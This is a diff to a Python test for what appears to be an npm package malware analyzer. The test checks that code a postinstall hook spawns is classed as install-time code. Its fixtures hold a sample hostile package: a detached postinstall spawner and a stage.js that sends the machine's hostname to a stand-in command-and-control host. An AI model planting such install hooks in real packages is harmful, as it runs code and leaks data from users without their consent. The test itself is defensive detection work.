@@ -441,8 +441,10 @@ def test_a_file_install_code_starts_as_a_process_runs_at_install():
     from npmward.analyzers.code.analysis import read_package
     from npmward.analyzers.code.budget import Budget
 
+    # (the payload's path in a variable, handed to a terminal or to node: a typosquat's postinstall)
     hook = "const {spawn} = require('child_process'), path = require('path');\n" \
-           "spawn(process.execPath, [path.join(__dirname, 'stage.js')], {detached: true}).unref();\n"
+           "const app = path.join(__dirname, 'stage.js');\n" \
+           "spawn('xterm', ['-e', process.execPath, app], {detached: true}).unref();\n"
     stage = "require('https').get('https://c2.invalid/?h=' + require('os').hostname());\n"
     files = {"install.js": hook.encode(), "stage.js": stage.encode(), "index.js": b"module.exports = 1;\n"}
     manifest = {"name": "x", "version": "1.0.0", "scripts": {"postinstall": "node install.js"}}
@@ -450,7 +452,7 @@ def test_a_file_install_code_starts_as_a_process_runs_at_install():
     assert program.levels[("stage.js", None)] == "install"
     # A file only named beside a copy (no process started) keeps its own level.
     copy = "const fs = require('fs'), path = require('path');\n" \
-           "fs.copyFileSync(path.join(__dirname, 'stage.js'), 'out/stage.js');\n"
+           "const src = path.join(__dirname, 'stage.js');\nfs.copyFileSync(src, 'out/stage.js');\n"
     program = read_package(manifest, {**files, "install.js": copy.encode()}, Budget.unlimited())[2]
     assert program.levels[("stage.js", None)] == "module"
 
